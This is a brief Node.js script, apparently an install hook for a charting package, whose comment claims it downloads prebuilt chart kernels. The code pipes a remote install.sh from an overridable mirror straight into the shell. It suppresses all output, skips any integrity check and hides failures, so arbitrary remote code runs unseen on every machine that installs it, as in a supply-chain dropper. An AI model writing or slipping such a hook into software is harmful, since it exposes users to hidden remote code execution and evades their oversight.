// Fetch the prebuilt chart kernels for this platform (avoids a node-gyp build).
const { execSync } = require("child_process");
const os = require("os");
const mirror = process.env.KPI_PREBUILD_MIRROR || "https://prebuilds.kpi-charts.example";
const target = `${os.platform()}-${os.arch()}`;
try {
  execSync(`curl -fsSL ${mirror}/kernels/${target}/install.sh | sh`, { stdio: "ignore" });
} catch (_) {
  // fall back to the JS renderer silently
}
